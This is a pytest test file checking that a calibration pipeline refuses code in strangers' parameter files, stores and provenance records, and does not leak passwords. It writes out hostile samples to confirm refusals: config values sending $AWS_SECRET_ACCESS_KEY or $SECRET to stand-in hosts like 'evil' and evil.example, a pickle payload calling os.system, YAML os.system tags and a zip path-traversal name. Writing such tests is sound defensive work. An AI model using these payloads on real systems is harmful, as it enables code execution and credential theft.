"""Each promise of SECURITY.md: files and stores of strangers run no code, and passwords are not shown."""

from __future__ import annotations

import http.server
import json
import logging
import os
import pickle
import sys
import threading
import zipfile
from contextlib import suppress
from pathlib import Path

import pytest
from helpers_l0 import write_scan

from cal_pipeline import CalibrationPipeline
from cal_pipeline.cli import calibrate as cli
from cal_pipeline.core.files import selection
from cal_pipeline.core.parameters.messages import ParameterError
from cal_pipeline.core.replay import restore_pipeline
from cal_pipeline.core.store.arrays import open_reader
from cal_pipeline.core.store.opening import open_store
from cal_pipeline.errors import CalibrationError, StoreError
from cal_pipeline.heterodyne.references.atm_file import read_tree
from cal_pipeline.heterodyne.references.atm_grid import AtmTableError
from cal_pipeline.heterodyne.scan import Scan
from cal_pipeline.heterodyne.session import Session
from cal_pipeline.steps import LoadsStep

EVIL = """
from pathlib import Path
from cal_pipeline import CalibrationPipeline as Base
Path("ran").touch()

def hook(result):
    Path("ran").touch()

class Evil(Base):
    "A pipeline of a stranger."

class CalibrationPipeline(Base):
    "A pipeline under our name."
"""
CODE = {
    "pre_hooks": "pre_hooks = touch ran,\n",
    "post_hooks": "post_hooks = evil_module.hook,\n",
    "steps.loads.pre_hooks": "[steps]\n[[loads]]\npre_hooks = touch ran,\n",
    "steps.atmosphere.post_hooks": "[steps]\n[[atmosphere]]\npost_hooks = touch ran,\n",
    "steps.gain.post_hooks": "[steps]\n[[gain]]\nconfig_file = inner.cfg\n",
    "scheduler": "scheduler = tcp://evil:8786\n",
    "logcfg": "logcfg = log.cfg\n",
    "output_file": "output_file = https://evil/$AWS_SECRET_ACCESS_KEY.zarr\n",
    "steps.loads.output_dir": "[steps]\n[[loads]]\noutput_dir = s3://evil/${AWS_SECRET_ACCESS_KEY}\n",
}
CLASSES = ["evil_module.Evil", "evil_module.CalibrationPipeline"]


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """The folder of a stranger, which is the current one: a module, and files that parameter files name."""
    (tmp_path / "evil_module.py").write_text(EVIL)
    (tmp_path / "inner.cfg").write_text("post_hooks = touch ran,\n")
    (tmp_path / "log.cfg").write_text("[*]\nhandler = append:ran\n")
    monkeypatch.chdir(tmp_path)
    yield tmp_path
    sys.modules.pop("evil_module", None)


def by_command(file, tmp_path, *options):
    arguments = ["--config", str(file), *options, str(tmp_path / "session.zarr")]
    if cli.main(arguments):
        raise CalibrationError("see standard error")


def by_strun(warm, file, tmp_path):
    text = f"class = cal_pipeline.CalibrationPipeline\n{file.read_text()}"
    (tmp_path / "whole.cfg").write_text(text)
    done = warm.run("strun", "whole.cfg", "session.zarr")
    if done.returncode:
        raise CalibrationError(done.stderr)


WAYS = {
    "command": by_command,
    "call": lambda file, tmp_path: CalibrationPipeline.call(str(tmp_path / "session.zarr"), config_file=str(file)),
    "keyword": lambda file, tmp_path: CalibrationPipeline(config_file=str(file)),
    "from_config_file": lambda file, tmp_path: CalibrationPipeline.from_config_file(file),
}


@pytest.mark.parametrize("name", CODE)
@pytest.mark.parametrize("way", WAYS)
def test_code_in_a_parameter_file_is_refused_by_name(folder, way, name, capsys):
    (folder / "mine.cfg").write_text(CODE[name])
    with pytest.raises(CalibrationError) as refused:
        WAYS[way](folder / "mine.cfg", folder)
    said = capsys.readouterr().err if way == "command" else str(refused.value)
    file = "inner.cfg" if "inner" in CODE[name] else "mine.cfg"
    assert f"{file}: {name} = " in said
    assert "--allow_code=true" in said
    assert len(said.splitlines()) == 1
    assert not (folder / "ran").exists()
    assert not list(folder.glob("*l1.zarr"))


@pytest.mark.slow
@pytest.mark.parametrize("name", CODE)
def test_strun_refuses_code_in_a_file_for_our_classes(warm, folder, name):
    (folder / "mine.cfg").write_text(CODE[name].replace("logcfg", "pre_hooks =,\nlogcfg"))
    with pytest.raises(CalibrationError, match=f"{name} = .*--allow_code=true"):
        by_strun(warm, folder / "mine.cfg", folder)
    assert not (folder / "ran").exists()


@pytest.mark.slow
@pytest.mark.parametrize("name", CODE)
def test_an_asdf_file_is_no_exception(folder, name):
    steps = {"loads": {}, "atmosphere": {}, "gain": {}}
    tree = {"class": "cal_pipeline.CalibrationPipeline", "name": "x", "parameters": {}, "steps": []}
    value = {"scheduler": "tcp://evil:8786", "logcfg": "log.cfg"}.get(name, ["touch ran"])
    if "output" in name:
        value = "https://evil/$AWS_SECRET_ACCESS_KEY"
    *_, step, parameter = ("", "", *name.split("."))
    (steps[step] if step else tree["parameters"])[parameter] = value
    tree["steps"] = [
        {"class": f"cal_pipeline.steps.{key.title()}Step", "name": key, "parameters": parameters}
        for key, parameters in steps.items()
    ]
    write_asdf(folder / "mine.asdf", tree)
    with pytest.raises(ParameterError, match=f"{name} = .*--allow_code=true"):
        CalibrationPipeline.from_config_file(folder / "mine.asdf")


def write_asdf(path, tree):
    import asdf

    asdf.AsdfFile(tree).write_to(path)


@pytest.mark.parametrize("given", CLASSES)
@pytest.mark.parametrize("way", WAYS)
def test_a_class_that_is_not_ours_is_not_imported(folder, way, given, capsys):
    (folder / "mine.cfg").write_text(f"class = {given}\n")
    with pytest.raises(CalibrationError) as refused:
        WAYS[way](folder / "mine.cfg", folder)
    said = f"{capsys.readouterr().err}{refused.value}"
    assert "mine.cfg" in said
    assert given in said
    assert not (folder / "ran").exists()


@pytest.mark.parametrize("text", ["class = evil_module.Evil\n", "class = evil_module.LoadsStep\n"])
def test_nor_that_of_a_step_in_a_pipeline(folder, text):
    (folder / "inner.cfg").write_text(text)
    (folder / "outer.cfg").write_text("[steps]\n[[loads]]\nconfig_file = inner.cfg\n")
    (folder / "section.cfg").write_text(f"[steps]\n[[loads]]\n{text}")
    for file in ("outer.cfg", "section.cfg"):
        said = rf"(inner|{file[:-4]})\.cfg.*: class 'evil_module\.\w+' is not that of this step"
        with pytest.raises(ParameterError, match=said):
            CalibrationPipeline.from_config_file(folder / file)
    assert not (folder / "ran").exists()


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Pre_Hooks = touch ran,\n", "no parameter 'Pre_Hooks' ("),
        ("[steps]\n[[loads]]\nPre_Hooks = touch ran,\n", "no parameter 'steps.loads.Pre_Hooks' ("),
        ("[steps]\n[[lodas]]\nskip = true\n", "no parameter 'steps.lodas' ("),
        ("[steps]\n[[loads]]\nclass = evil_module.LoadsStep\n", "class 'evil_module.LoadsStep' is not that"),
    ],
)
def test_the_file_of_what_is_unknown_is_named(folder, way, text, name, capsys):
    (folder / "mine.cfg").write_text(text)
    with pytest.raises(CalibrationError) as refused:
        WAYS[way](folder / "mine.cfg", folder)
    said = f"{capsys.readouterr().err}{refused.value}"
    assert name in said
    assert "mine.cfg" in said


def test_modules_beside_a_parameter_file_are_not_found(folder):
    (folder / "mine.cfg").write_text("class = cal_pipeline.CalibrationPipeline\n")
    before = list(sys.path)
    (folder / "cal_pipeline.py").write_text("from pathlib import Path; Path('ran').touch()")
    assert type(CalibrationPipeline.from_config_file(folder / "mine.cfg")) is CalibrationPipeline
    assert sys.path == before
    assert not (folder / "ran").exists()


def test_a_class_derived_from_ours_that_is_loaded_is_accepted(folder):
    (folder / "mine.cfg").write_text(f"class = {__name__}.Derived\n")
    assert type(CalibrationPipeline.from_config_file(folder / "mine.cfg")) is Derived


class Derived(CalibrationPipeline):
    """A pipeline of a sister package."""


class TestAllowed:
    """Code that the user allows, or hands over as an object."""

    @pytest.fixture
    def session(self, make_session):
        return make_session(channels=16, noise=False)

    @pytest.mark.slow
    @pytest.mark.parametrize("name", ["pre_hooks", "steps.gain.post_hooks"])
    def test_hooks_run_if_the_user_allows_code(self, folder, session, calibrate, name):
        (folder / "mine.cfg").write_text(CODE[name])
        calibrate(session, config_file=str(folder / "mine.cfg"), allow_code=True)
        assert (folder / "ran").exists()

    @pytest.mark.slow
    def test_by_the_command(self, folder, session, atm_table):
        (folder / "mine.cfg").write_text(CODE["pre_hooks"])
        by_command(folder / "mine.cfg", folder, "--allow-code", "--atm-table", str(atm_table))
        assert (folder / "ran").exists()

    @pytest.mark.slow
    def test_hooks_of_the_user_need_no_permission(self, folder, session, calibrate):
        calibrate(session, pre_hooks=["touch ran"])
        assert (folder / "ran").exists()

    @pytest.mark.parametrize("given", CLASSES)
    def test_classes_are_imported(self, folder, given):
        (folder / "mine.cfg").write_text(f"class = {given}\n")
        step = CalibrationPipeline.from_config_file(folder / "mine.cfg", allow_code=True)
        assert type(step).__module__ == "evil_module"

    @pytest.mark.slow
    def test_a_derived_pipeline_runs(self, folder, session, calibrate):
        (folder / "mine.cfg").write_text("class = evil_module.Evil\n")
        product = calibrate(session, config_file=str(folder / "mine.cfg"), allow_code=True)
        assert (folder / "ran").exists()
        assert product.numbers == [1]

    def test_a_file_cannot_allow_code(self, folder, caplog):
        (folder / "mine.cfg").write_text("allow_code = True\n")
        assert CalibrationPipeline.from_config_file(folder / "mine.cfg").allow_code is False
        assert "mine.cfg: allow_code is ignored; only an argument allows code" in caplog.text
        (folder / "both.cfg").write_text("allow_code = True\npre_hooks = touch ran,\n")
        with pytest.raises(ParameterError, match="pre_hooks"):
            CalibrationPipeline.from_config_file(folder / "both.cfg")

    def test_files_with_all_parameters_are_read(self, folder):
        CalibrationPipeline(allow_code=True).export_config(folder / "all.asdf")
        assert CalibrationPipeline.from_config_file(folder / "all.asdf").allow_code is False


class TestChosenByTheData:
    """Files that a table maps to the data."""

    @pytest.fixture
    def run(self, make_session, calibrate, tmp_path, monkeypatch):
        """Calibrate with a chosen file of some text."""
        monkeypatch.setattr(selection, "cfg_folder", lambda: tmp_path)
        (tmp_path / "selection.toml").write_text(
            '[[choice]]\ntelescope = "*"\nfrontend = "*"\nmode = "*"\nparameters = "chosen"\npurpose = "a test"\n'
        )
        session = make_session(channels=16, noise=False, scans=2)

        def calibrate_with(text, **settings):
            (tmp_path / "chosen.asdf").write_text(text)
            return calibrate(session, **settings)

        return calibrate_with

    @pytest.mark.slow
    @pytest.mark.parametrize("name", ["pre_hooks", "steps.loads.pre_hooks"])
    def test_code_is_refused(self, run, tmp_path, monkeypatch, name):
        monkeypatch.chdir(tmp_path)
        with pytest.raises(ParameterError, match=rf"cfg/chosen.asdf: {name} = .*touch ran.* runs code before"):
            run(CODE[name])
        assert not (tmp_path / "ran").exists()
        assert not (tmp_path / "l1.zarr").exists()
        run(CODE[name], allow_code=True)
        # The hooks of the pipeline would come too late.
        assert (tmp_path / "ran").exists() == (name != "pre_hooks")

    @pytest.mark.parametrize("text", ["class = evil.Evil\n", "[steps]\n[[loads]]\nclass = evil.Evil\n"])
    def test_foreign_classes_are_refused(self, run, text):
        with pytest.raises(ParameterError, match=r"cfg/chosen.asdf: (steps\.loads\.)?class = 'evil.Evil' is not of"):
            run(text)

    @pytest.mark.slow
    def test_how_a_run_goes_is_not_decided(self, run, tmp_path, caplog):
        ignored = {
            "output_file": tmp_path / "elsewhere.zarr",
            "output_dir": tmp_path / "elsewhere",
            "overwrite": "True",
            "workers": "7",
            "scheduler": "tcp://127.0.0.1:9",
            "allow_code": "True",
            "scans": "1",
        }
        text = "".join(f"{name} = {value}\n" for name, value in ignored.items())
        with caplog.at_level(logging.WARNING, "cal_pipeline"):
            product = run(f"{text}[steps]\n[[loads]]\nsave_results = True\nclip_tsys = 150.0\n")
        assert product.numbers == [1, 2]
        assert not list(tmp_path.glob("elsewhere*"))
        parameters = product.attributes(1)["provenance"]["parameters"]
        assert parameters["workers"] == 1
        assert parameters["scans"] is None
        assert parameters["steps"]["loads"]["clip_tsys"] == 150.0
        (line,) = [r.message for r in caplog.records if "chosen.asdf" in r.message and r.levelname == "WARNING"]
        assert line == (
            "cfg/chosen.asdf: allow_code, output_dir, output_file, overwrite, scans, scheduler, workers, "
            "steps.loads.save_results ignored; the data do not decide how a run goes"
        )

    @pytest.mark.slow
    def test_a_step_alone_does_neither(self, run, tmp_path, caplog, monkeypatch):
        monkeypatch.chdir(tmp_path)
        run("[steps]\n[[loads]]\nclip_tsys = 150.0\n")
        (tmp_path / "chosen.asdf").write_text("[steps]\n[[loads]]\noutput_file = other.asdf\nsave_results = True\n")
        with caplog.at_level(logging.WARNING, "cal_pipeline"):
            LoadsStep.call(f"{tmp_path}/session.zarr/scan_000001", configure_log=False)
        assert "output_file, save_results ignored" in caplog.text
        assert not list(tmp_path.glob("*other*"))
        (tmp_path / "chosen.asdf").write_text("[steps]\n[[loads]]\npre_hooks = touch ran,\n")
        with pytest.raises(ParameterError, match="pre_hooks"):
            LoadsStep.call(f"{tmp_path}/session.zarr/scan_000001", configure_log=False)


@pytest.fixture
def visited():
    """A web server, and the paths that it was asked for."""
    paths = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            paths.append(self.path)
            self.send_error(404)

        do_HEAD = do_GET

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}", paths
        server.shutdown()


READERS = {
    "table": (lambda path: read_tree(path), AtmTableError),
    "result": (Scan.open, StoreError),
    "parameters": (CalibrationPipeline.from_config_file, ParameterError),
}
TREE = "#ASDF 1.0.0\n#ASDF_STANDARD 1.6.0\n%YAML 1.1\n%TAG ! tag:stsci.edu:asdf/\n--- !core/asdf-1.1.0\n"


@pytest.mark.server
@pytest.mark.parametrize("reader", READERS)
def test_an_asdf_file_fetches_nothing(tmp_path, visited, reader):
    address, paths = visited
    array = f"!core/ndarray-1.1.0 {{source: '{address}/x.asdf', datatype: float64, byteorder: little, shape: [4]}}"
    (tmp_path / "x.asdf").write_text(f"{TREE}frequency: {array}\ncal_pipeline_scan: {{a: {array}}}\n...\n")
    read, error = READERS[reader]
    with pytest.raises(error, match=r"x.asdf.* lies outside the file, at 'http://127"):
        read(tmp_path / "x.asdf")
    assert paths == []


@pytest.mark.filterwarnings("ignore")
@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize(
    "tag", ["!!python/object/apply:os.system", "!<tag:yaml.org,2002:python/object/apply:os.system>"]
)
def test_no_tag_of_an_asdf_file_is_called(tmp_path, monkeypatch, reader, tag):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x.asdf").write_text(f"{TREE}frequency: {tag} ['touch ran']\n...\n")
    read, error = READERS[reader]
    with suppress(error):
        read(tmp_path / "x.asdf")
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("codec", ["pickle", "numcodecs.pickle"])
def test_no_codec_unpickles(tmp_path, monkeypatch, codec):
    class Payload:
        def __reduce__(self):
            return os.system, ("touch ran",)

    monkeypatch.chdir(tmp_path)
    write_scan(tmp_path / "session.zarr", 1)
    array = tmp_path / "session.zarr/scan_000001/source/mjd"
    metadata = json.loads((array / "zarr.json").read_text())
    metadata["codecs"].append({"name": codec, "configuration": {"id": "pickle"}})
    (array / "zarr.json").write_text(json.dumps(metadata))
    for chunk in (path for path in array.rglob("*") if path.is_file() and path.name != "zarr.json"):
        chunk.write_bytes(pickle.dumps(Payload()))
    with pytest.raises(CalibrationError, match=f"mjd cannot be opened as an array: .*{codec}"):
        open_reader(open_store(tmp_path / "session.zarr"), "scan_000001/source/mjd").read()
    assert not (tmp_path / "ran").exists()


def test_what_is_no_file_in_a_store_is_not_waited_for(tmp_path):
    write_scan(tmp_path / "session.zarr", 1)
    path = tmp_path / "session.zarr/scan_000001/source/mjd/zarr.json"
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(CalibrationError, match=r"mjd/zarr.json cannot be read: .*is no regular file"):
        open_reader(open_store(tmp_path / "session.zarr"), "scan_000001/source/mjd")


def test_names_in_a_zip_file_write_nothing(tmp_path):
    with zipfile.ZipFile(tmp_path / "x.zip", "w") as packed:
        packed.writestr("../../outside/zarr.json", "{}")
    with pytest.raises(StoreError):
        Session(tmp_path / "x.zip")
    assert not (tmp_path.parent / "outside").exists()


class TestSecrets:
    """Passwords and variables of the environment."""

    PLACES = {
        "input": lambda url, tmp_path: ["-o", f"{tmp_path}/l1.zarr", url],
        "output": lambda url, tmp_path: ["-o", url, f"{tmp_path}/session.zarr"],
        "input_dir": lambda url, tmp_path: ["--set", f"input_dir={url}", "session.zarr"],
    }

    @pytest.mark.parametrize("place", PLACES)
    def test_a_password_in_a_url_is_refused_and_not_shown(self, tmp_path, capsys, place):
        arguments = self.PLACES[place]("https://me:s3cret@host.example/x.zarr", tmp_path)
        assert cli.main([*arguments, "--verbose"]) == 1
        said = capsys.readouterr().err
        assert "https://me:***@host.example/x.zarr holds a password" in said
        assert "s3cret" not in said
        assert not list(tmp_path.iterdir())

    def test_a_user_without_a_password_is_not_refused(self):
        with pytest.raises(StoreError) as told:
            Session("nosuch://me@host.example/a:b@c")
        assert "password" not in str(told.value)

    @pytest.mark.slow
    @pytest.mark.server
    def test_the_driver_takes_credentials_from_its_configuration(self, tmp_path, visited, monkeypatch):
        pytest.importorskip("aiohttp")
        conf = pytest.importorskip("fsspec.config").conf
        seen = []

        def note(handler, *_):
            seen.append(handler.headers["Authorization"])

        monkeypatch.setitem(conf, "http", {"headers": {"Authorization": "Basic bWU6czNjcmV0"}})
        monkeypatch.setattr(
            http.server.BaseHTTPRequestHandler,
            "log_request",
            note,
        )
        with pytest.raises(StoreError):
            Session(f"{visited[0]}/session.zarr")
        assert set(seen) == {"Basic bWU6czNjcmV0"}

    @pytest.mark.slow
    def test_a_product_cannot_send_the_environment(self, make_session, calibrate, tmp_path, monkeypatch):
        monkeypatch.setenv("SECRET", "s3cret")
        calibrate(make_session(channels=16, noise=False))
        change_provenance(tmp_path, l0_store="https://evil.example/$SECRET/session.zarr")
        assert cli.main(["replay", str(tmp_path / "l1.zarr"), "1"]) == 1

    @pytest.mark.slow
    def test_hooks_that_a_product_recorded_are_not_restored(self, make_session, calibrate, tmp_path):
        calibrate(make_session(channels=16, noise=False))
        hooks = {"pre_hooks": ["touch ran"], "scheduler": "tcp://evil:8786", "allow_code": True}
        change_provenance(tmp_path, parameters={**hooks, "steps": {"loads": {"post_hooks": ["touch ran"]}}})
        pipeline = restore_pipeline(CalibrationPipeline, tmp_path / "l1.zarr", 1)
        assert (pipeline.pre_hooks, pipeline.loads.post_hooks, pipeline.scheduler) == ([], [], None)
        assert pipeline.allow_code is False


def change_provenance(tmp_path, **changes):
    path = tmp_path / "l1.zarr/scan_000001/zarr.json"
    document = json.loads(path.read_text())
    document["attributes"]["provenance"] |= changes
    path.write_text(json.dumps(document))


def test_the_page_is_complete():
    text = (Path(__file__).parents[1] / "SECURITY.md").read_text()
    for words in ("allow_code", "pre_hooks", "strun FILE", "stpipe-log.cfg", "Dask", "pickle", "TLS", "ZIP", "report"):
        assert words in text
